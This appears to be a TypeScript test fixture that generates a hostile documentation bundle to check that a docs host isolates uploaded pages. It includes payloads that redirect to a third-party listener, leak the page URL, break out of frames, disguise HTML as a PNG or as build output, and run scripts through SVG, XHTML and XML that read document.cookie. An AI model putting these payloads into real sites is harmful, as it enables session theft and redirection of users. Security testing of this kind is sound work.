/**
 * Documentation that is out for whoever reads it. index.html tries everything (malicious-script.ts) and says of
 * each attempt "blocked: why" or "GOT: what", as JSON in `#report`; when all are through, the title is "done".
 * What was sent and could not be read back is a "GOT: sent" too. Some browsers lie to a page about what they
 * kept back, so look at what `thirdParty` heard as well: nothing.
 *
 * `#click` has those attempts that need a click; afterwards the title is "clicked". Pages that lead away, for which
 * the place of the browser says how it went: see `leaving`.
 */
import type { DocsFile } from "./exdoc.ts";
import { attempts } from "./malicious-script.ts";

export interface Targets {
  /** A host that is none of ours, where somebody listens: `http://127.0.0.1:4711`. */
  thirdParty: string;
  /** A script in the docs of another package that everybody may read, from `/` or `http` on. */
  otherScript: string;
  /** The docs_config.js of a private package that the reader may read, and the page does not belong to. */
  privateScript: string;
  /** Of the registry, where docs have another host; by default the host of the page itself. */
  registry?: string;
}

/**
 * Pages that go elsewhere at once: the first two by themselves, which no header can forbid; the last out of
 * a frame, which must not move the page around it.
 */
export const leaving = {
  refresh: "refresh.html",
  location: "location.html",
  top: "top.html",
};

/** For `docsTarball` of exdoc.ts. */
export function maliciousFiles(targets: Targets): DocsFile[] {
  // Inside a script element: no text may end it.
  const given = JSON.stringify(targets).replaceAll("<", "\\u003c");
  const script = `<script>window.targets = ${given};</script>`;
  const away = `${targets.thirdParty}/away`;
  return [
    { path: "index.html", bytes: index(script) },
    { path: "attempts.js", bytes: attempts },
    { path: "sw.js", bytes: "self.addEventListener('fetch', () => {});" },
    { path: leaving.refresh, bytes: `<meta http-equiv="refresh" content="0; url=${away}">` },
    {
      path: leaving.location,
      bytes: `<script>location.href = "${away}?" + location.href</script>`,
    },
    { path: leaving.top, bytes: '<!DOCTYPE html><iframe src="out.html"></iframe>' },
    { path: "out.html", bytes: `<!DOCTYPE html><script>top.location.href = "${away}"</script>` },
    // Looks as if a build tool had named it, and says that it is what it is not.
    { path: "dist/html-MX33GQN7.js", bytes: "document.title = 'ran';" },
    { path: "picture.png", bytes: "<!DOCTYPE html><script>document.title = 'sniffed'</script>" },
    { path: "picture.svg", bytes: `<svg xmlns="http://www.w3.org/2000/svg">${svgScript}</svg>` },
    { path: "page.xhtml", bytes: `<html xmlns="http://www.w3.org/1999/xhtml">${svgScript}</html>` },
    { path: "feed.xml", bytes: `<x xmlns:h="http://www.w3.org/1999/xhtml">${xmlScript}</x>` },
  ];
}

const svgScript = "<script>document.title = 'ran: ' + document.cookie</script>";
const xmlScript = "<h:script>document.title = 'ran: ' + document.cookie</h:script>";

function index(script: string): string {
  return `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>trying</title>${script}</head>
<body><h1>Harmless</h1><button id="click">Read more</button><pre id="report">{}</pre>
<script src="attempts.js"></script></body></html>
`;
}
